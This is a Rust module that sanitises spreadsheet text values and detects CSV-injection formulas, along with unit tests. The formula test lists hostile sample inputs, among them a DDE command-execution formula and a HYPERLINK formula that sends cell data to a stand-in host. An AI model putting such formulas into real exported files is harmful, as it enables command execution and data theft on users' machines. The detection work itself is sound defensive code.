//! Text as spreadsheets hold it, made fit to keep.

use unicode_normalization::UnicodeNormalization;

/// What a value must not hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Dirt {
    /// Bytes that are no UTF-8.
    NotUtf8,
    /// NUL or another control character.
    Control,
    /// More than [`MAX_FIELD`] bytes.
    TooLong,
}

/// The longest value that is kept, in bytes.
pub(crate) const MAX_FIELD: usize = 32 * 1024;

/// Characters that change the direction of the text around them, and a stray byte order mark:
/// they only serve to show one thing and mean another.
const fn reorders(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// A value in NFC, trimmed, with `\n` line ends; no control characters.
pub(crate) fn value(bytes: &[u8]) -> Result<String, Dirt> {
    if bytes.len() > MAX_FIELD {
        return Err(Dirt::TooLong);
    }
    let text = std::str::from_utf8(bytes).map_err(|_| Dirt::NotUtf8)?;
    let text = text.replace("\r\n", "\n").replace('\r', "\n");
    if text
        .chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
    {
        return Err(Dirt::Control);
    }
    let kept = text.nfc().filter(|c| !reorders(*c)).collect::<String>();
    Ok(kept.trim().to_owned())
}

/// A value on one line; `None` when nothing is left.
pub(crate) fn line(text: &str) -> Option<String> {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    (!line.is_empty()).then_some(line)
}

/// Whether a spreadsheet would run the value as a formula, were it exported unguarded
/// (OWASP, "CSV injection").
pub(crate) fn looks_like_formula(text: &str) -> bool {
    let mut chars = text.chars();
    match chars.next() {
        Some('=' | '@' | '\u{ff1d}' | '\u{ff20}') => true,
        // A number or a telephone number may begin so.
        Some('+' | '-' | '\u{ff0b}' | '\u{ff0d}') => {
            chars.any(|c| !c.is_ascii_digit() && !" .,()/-".contains(c))
                || text.matches(['+', '-']).count() > 1 && text.starts_with("-")
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_trimmed_composed_and_refused_when_dirty() {
        assert_eq!(value(b"  Ada\r\nL ").unwrap(), "Ada\nL");
        assert_eq!(value("Mu\u{308}ller".as_bytes()).unwrap(), "Müller");
        assert_eq!(value("a\u{202e}b".as_bytes()).unwrap(), "ab");
        assert_eq!(value(b"a\0b"), Err(Dirt::Control));
        assert_eq!(value(b"a\x1bb"), Err(Dirt::Control));
        assert_eq!(value(b"M\xfcller"), Err(Dirt::NotUtf8));
        assert_eq!(value(&[b'a'; MAX_FIELD + 1]), Err(Dirt::TooLong));
        assert_eq!(line(" a\n b "), Some("a b".to_owned()));
        assert_eq!(line(" \n"), None);
    }

    #[test]
    fn formulas_are_told_from_numbers() {
        for formula in [
            "=cmd|'/c calc'!A1",
            "+1+1",
            "@SUM(1)",
            "\u{ff1d}1+1",
            "=HYPERLINK(\"http://x?\"&A1,\"ok\")",
            "-2+3",
        ] {
            assert!(looks_like_formula(formula), "{formula}");
        }
        for plain in ["+49 (30) 123-45", "-5", "-2.50", "Ada", "a=b", ""] {
            assert!(!looks_like_formula(plain), "{plain}");
        }
    }
}
